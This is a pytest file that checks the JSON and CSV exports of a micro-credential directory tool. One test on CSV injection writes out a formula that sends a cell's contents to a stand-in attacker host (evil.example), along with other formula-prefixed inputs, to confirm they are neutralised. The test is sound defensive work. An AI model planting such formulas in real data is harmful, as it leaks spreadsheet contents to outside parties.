"""credir's own records: credentials.json, providers.json, per-credential JSON and the CSV."""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path

import jsonschema
import pytest

from generator.check.load import load_document
from generator.check.run import load_directory
from generator.export import json_text, records, write_exports
from generator.urls import (
    CREDENTIALS_CSV,
    CREDENTIALS_JSON,
    FORMATS,
    PROVIDERS_JSON,
    export_path,
)
from support import REPO_ROOT
from support.cases import CASES_DIR
from support.linked_data import EXPORT_SITE_URL
from support.translations import TRANSLATED

YAML_FILES = sorted(
    p for p in (REPO_ROOT / "credentials").glob("*/*.yaml") if p.name != "_provider.yaml"
)


@pytest.fixture(scope="module")
def written(example_directory, tmp_path_factory) -> Path:
    site = tmp_path_factory.mktemp("exports")
    write_exports(REPO_ROOT, example_directory, site, EXPORT_SITE_URL)
    return site


def _yaml_data(path: Path) -> dict:
    document, problems = load_document(path, path.relative_to(REPO_ROOT).as_posix())
    assert document is not None, problems
    return json.loads(json.dumps(document.data, default=lambda d: d.isoformat()))


def test_one_record_per_yaml_file_with_every_field(written: Path) -> None:
    data = json.loads((written / CREDENTIALS_JSON).read_text("utf-8"))
    assert data["total"] == len(YAML_FILES) == len(data["credentials"]) == 35
    by_key = {record["key"]: record for record in data["credentials"]}
    for path in YAML_FILES:
        key = f"{path.parent.name}/{path.stem}"
        record = by_key[key]
        # Every field of the file, with its value as written (numbers compared as numbers).
        assert record["credential"] == _yaml_data(path), key
        assert record["provider"]["id"] == path.parent.name
        assert record["page_url"] == f"{EXPORT_SITE_URL}credentials/{key}/"
        assert record["exports"]["elm"] == EXPORT_SITE_URL + export_path(key, "elm")


def test_derived_values(written: Path, example_directory) -> None:
    data = json.loads((written / CREDENTIALS_JSON).read_text("utf-8"))
    by_key = {record["key"]: record["derived"] for record in data["credentials"]}
    free = by_key["escuela-alboran/competencias-digitales-basicas"]
    assert free["is_free"] is True
    hours_only = by_key["kestrel-cloud-labs/cloud-practitioner-2023"]
    assert hours_only["ects_is_estimated"] is True
    assert hours_only["ects"] == pytest.approx(30 / 27.5, abs=0.05)
    assert hours_only["annex_i_missing"] == [] and hours_only["annex_i_complete"] is True
    for key, derived in by_key.items():
        listing = example_directory.listings[key]
        assert derived["stale"] == listing.is_stale()
        assert derived["countries"] == listing.countries
        assert derived["awarding_bodies"] == listing.awarding_bodies


def test_providers_json(written: Path, example_directory) -> None:
    data = json.loads((written / PROVIDERS_JSON).read_text("utf-8"))
    assert data["total"] == len(example_directory.providers) == 11
    listed = [key for provider in data["providers"] for key in provider["credentials"]]
    assert sorted(listed) == sorted(example_directory.listings)
    corrib = next(p for p in data["providers"] if p["id"] == "corrib-valley-tech")
    assert corrib["name"] == "Corrib Valley Technological College"
    assert corrib["page_url"] == f"{EXPORT_SITE_URL}providers/corrib-valley-tech/"


def test_per_credential_json_is_the_file_and_valid(written: Path) -> None:
    schema = json.loads((REPO_ROOT / "schema" / "credential.schema.json").read_text("utf-8"))
    validator = jsonschema.Draft202012Validator(
        schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
    )
    for path in YAML_FILES:
        key = f"{path.parent.name}/{path.stem}"
        exported = json.loads((written / export_path(key, "json")).read_text("utf-8"))
        assert exported == _yaml_data(path)
        errors = [error.message for error in validator.iter_errors(exported)]
        assert not errors, (key, errors)


def test_csv_parses_back_one_row_per_file(written: Path, example_directory) -> None:
    raw = (written / CREDENTIALS_CSV).read_bytes()
    text = raw.decode("utf-8")  # UTF-8, no BOM
    assert not text.startswith("\ufeff")
    assert text.split("\r\n", 1)[0] == ",".join(records.CSV_COLUMNS)  # RFC 4180 line ends
    assert text.endswith("\r\n")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(YAML_FILES)
    assert tuple(rows[0].keys()) == records.CSV_COLUMNS
    for row in rows:
        listing = example_directory.listings[row["key"]]
        c = listing.credential
        assert row["title"] == c.title
        assert row["languages"].split(records.CSV_LIST_SEPARATOR) == list(c.languages)
        assert row["learning_outcomes"].split(records.CSV_LIST_SEPARATOR) == list(
            c.learning_outcomes
        )
        assert row["fields_of_education"].split(" | ") == list(c.fields_of_education)
        assert row["review_by"] == c.review_by.isoformat()
        if c.workload.ects is not None:
            assert float(row["workload_ects"]) == c.workload.ects
        else:
            assert row["workload_ects"] == ""
        assert row["is_free"] == {True: "true", False: "false", None: ""}[listing.is_free]
    accents = next(r for r in rows if r["key"] == "escuela-alboran/espanol-para-el-entorno-laboral")
    assert "Español" in accents["title"]


def test_exports_are_deterministic(example_directory, tmp_path: Path) -> None:
    first, second = tmp_path / "a", tmp_path / "b"
    write_exports(REPO_ROOT, example_directory, first, EXPORT_SITE_URL)
    write_exports(REPO_ROOT, example_directory, second, EXPORT_SITE_URL)
    files = sorted(p.relative_to(first) for p in first.rglob("*") if p.is_file())
    assert files == sorted(p.relative_to(second) for p in second.rglob("*") if p.is_file())
    # 4 per credential, 1 per provider, 4 directory-wide API files, 1 + 11 feeds
    assert len(files) == 35 * 4 + 11 + 4 + 1 + 11
    for name in files:
        assert (first / name).read_bytes() == (second / name).read_bytes(), name


def test_json_text_sorts_keys_and_keeps_unicode() -> None:
    assert json_text({"b": 1, "a": "Ó"}) == '{\n  "a": "Ó",\n  "b": 1\n}\n'


def test_credentials_json_written_record_by_record_is_the_whole_document(written: Path) -> None:
    """credentials.json is streamed; its bytes are still those of the one document."""
    raw = (written / CREDENTIALS_JSON).read_text("utf-8")
    assert raw == json_text(json.loads(raw))


@pytest.mark.parametrize("count", [0, 1, 3])
def test_credentials_json_stream_matches_json_text(count: int) -> None:
    items = [{"key": f"p/c{i}", "nested": {"list": [i, "é\n"], "empty": []}} for i in range(count)]
    out = io.BytesIO()
    stream = records.CredentialsJson(out, count)
    for item in items:
        stream.add(item)
    stream.close()
    expected = {"credentials": items, "format_version": records.FORMAT_VERSION, "total": count}
    assert out.getvalue().decode() == json_text(expected)


def test_credentials_json_stream_refuses_a_wrong_total() -> None:
    stream = records.CredentialsJson(io.BytesIO(), 2)
    stream.add({"key": "p/c"})
    with pytest.raises(ValueError, match="1 records, 2 expected"):
        stream.close()


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    """OWASP, CSV Injection: a cell starting with = + - @ tab or CR is a formula to
    Excel, LibreOffice and Google Sheets; it gets a leading single quote. A title like this
    one passes validation: it is text, and the JSON exports keep it as written."""
    from support.cases import copy_case

    root = copy_case(CASES_DIR / "valid" / "minimal", tmp_path / "root")
    path = root / "credentials/acme/data-basics.yaml"
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'
    text = path.read_text("utf-8").replace("title: Data Basics", f"title: '{formula}'")
    text = text.replace(
        "status: active",
        'keywords: ["+cmd", "-2+3", "@SUM(A1)", "\\tTAB", "safe = text"]\nstatus: active',
    )
    text = text.replace("summary: Clean and summarise a small dataset.", 'summary: "-1"')
    path.write_text(text, "utf-8")
    checked = load_directory(root)
    assert checked.ok, checked.problems
    out = io.StringIO(newline="")
    records.write_credentials_csv(checked.directory, EXPORT_SITE_URL, out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    assert row["title"] == "'" + formula
    assert row["summary"] == "'-1"
    assert row["keywords"] == "'+cmd | -2+3 | @SUM(A1) | \tTAB | safe = text"
    assert row["provider_name"] == "Acme Training"  # ordinary text is left as it is
    assert row["url"].startswith("https://")
    for start in records.FORMULA_STARTS:
        assert records._cell(start + "x") == "'" + start + "x"
    assert records._cell(0.5) == "0.5" and records._cell(None) == ""


def test_the_api_description_and_readme_say_how_csv_cells_are_neutralised() -> None:
    from generator.export.openapi import openapi

    operation = openapi(EXPORT_SITE_URL)["paths"]["/credentials.csv"]["get"]
    readme = (REPO_ROOT / "README.md").read_text("utf-8")
    for text in (operation["description"], readme):
        assert "single quote" in text and "CSV Injection" in text


def test_an_unconfirmed_claim_is_told_apart_in_the_records(tmp_path: Path) -> None:
    """The claimant's record keeps its file as written, and says which of its links the
    target's provider has not confirmed; the target's record does not list the claim."""
    root = CASES_DIR / "valid/stackability-unconfirmed-claim"
    directory = load_directory(root).directory
    assert directory is not None
    write_exports(root, directory, tmp_path, EXPORT_SITE_URL)
    data = json.loads((tmp_path / CREDENTIALS_JSON).read_text("utf-8"))
    by_key = {record["key"]: record for record in data["credentials"]}
    claimant = by_key["acme/data-certificate"]
    assert claimant["credential"]["stackability"]["contributes_to"] == ["northwind/msc-data"]
    assert claimant["derived"]["contributes_to_unconfirmed"] == ["northwind/msc-data"]
    assert by_key["acme/data-basics"]["derived"]["contributes_to_unconfirmed"] == []
    assert by_key["northwind/msc-data"]["credential"]["stackability"] == {
        "accepts": ["acme/data-basics"]
    }
    text = (tmp_path / CREDENTIALS_CSV).read_text("utf-8")
    rows = {row["key"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert rows["acme/data-certificate"]["contributes_to_unconfirmed"] == "northwind/msc-data"
    assert rows["acme/data-basics"]["contributes_to_unconfirmed"] == ""


@pytest.mark.parametrize("key", sorted(TRANSLATED))
def test_a_translated_record_carries_its_languages(written: Path, example_directory, key: str):
    """The record and the per-credential JSON keep `text_language` and every translation as
    the file gives them; `derived` names the languages, also for a file that leaves its
    text language to the default."""
    data = json.loads((written / CREDENTIALS_JSON).read_text("utf-8"))
    by_key = {record["key"]: record for record in data["credentials"]}
    listing = example_directory.listings[key]
    original, translated = TRANSLATED[key]
    record = by_key[key]
    for credential in (
        record["credential"],
        json.loads((written / export_path(key, "json")).read_text("utf-8")),
    ):
        assert credential["text_language"] == original
        assert credential["translations"][translated]["title"] == (
            listing.credential.translations[translated].title
        )
        outcomes = listing.credential.translations[translated].learning_outcomes
        assert credential["translations"][translated]["learning_outcomes"] == outcomes
    assert record["derived"]["text_language"] == original
    assert record["derived"]["text_languages"] == [original, translated]
    assert record["provider"].get("translations") == (
        json.loads(listing.provider.model_dump_json(exclude_none=True)).get("translations")
    )
    defaulted = by_key["kuusela-uas/circular-economy-basics"]
    assert "text_language" not in defaulted["credential"]  # left to its default in the file
    assert defaulted["derived"]["text_language"] == "fi"
    assert defaulted["derived"]["text_languages"] == ["fi"]


def test_every_record_is_what_the_api_description_says(written: Path) -> None:
    from generator.export.openapi import openapi

    spec = openapi(EXPORT_SITE_URL)
    schema = {
        "$schema": "https://json-schema.org/draft/2020-12/schema",
        "components": spec["components"],
        "$ref": "#/components/schemas/CredentialList",
    }
    document = json.loads((written / CREDENTIALS_JSON).read_text("utf-8"))
    validator = jsonschema.Draft202012Validator(schema)
    assert [error.message for error in validator.iter_errors(document)] == []
    broken = copy.deepcopy(document)
    del broken["credentials"][0]["derived"]["text_language"]
    assert not validator.is_valid(broken)


def test_the_api_description_and_readme_say_how_each_format_carries_languages() -> None:
    """OB3 has no language maps: the readers of the API are told it keeps the original."""
    from generator.export.openapi import openapi

    spec = openapi(EXPORT_SITE_URL)
    ob3 = spec["paths"]["/credentials/{provider}/{id}.ob3.json"]["get"]["description"]
    assert "no language maps" in ob3 and "original text only" in ob3
    for fmt in ("elm", "ctdl"):
        path = f"/credentials/{{provider}}/{{id}}{FORMATS[fmt]}"
        assert "every translation" in spec["paths"][path]["get"]["description"]
    assert "translations" in spec["info"]["description"]
    readme = (REPO_ROOT / "README.md").read_text("utf-8")
    section = readme.split("## Open data", 1)[1].split("\n## ", 1)[0]
    assert "no language maps" in section and "translations" in section
